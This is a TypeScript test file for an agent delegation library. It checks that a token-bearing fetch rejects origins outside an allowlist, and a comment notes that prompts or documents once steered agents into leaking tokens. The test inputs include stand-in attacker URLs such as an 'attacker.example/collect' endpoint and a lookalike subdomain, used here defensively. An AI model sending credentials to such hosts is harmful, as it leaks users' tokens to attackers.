import { delegatedToken } from "@agentwrit/testing/delegated-token"
import { expect, test } from "vitest"
import { acceptDelegation } from "../../src/index.ts"

// Before: an agent's fetch sent its token to any https origin. Who chose the URL, such as a prompt or a document, got
// it.

const TRUSTED = "https://api.example"

test.each([
  ["where no origin is named", undefined],
  ["where another one is named", [TRUSTED]],
])("a URL that an attacker chose gets no token %s", async (_, allowedOrigins) => {
  const sent: string[] = []
  const { fetch } = acceptDelegation({
    brokerUrl: "https://broker.example",
    token: delegatedToken(),
    ...(allowedOrigins && { allowedOrigins }),
    fetch: async (url: string) => {
      sent.push(url)
      return new Response()
    },
  })
  for (const target of ["https://attacker.example/collect", `${TRUSTED}.attacker.example`, "https://broker.example"])
    await expect(fetch(target)).rejects.toMatchObject({
      name: "TargetError",
      code: "origin_not_allowed",
      message: expect.stringContaining("allowedOrigins"),
    })
  expect(sent).toEqual([])
})
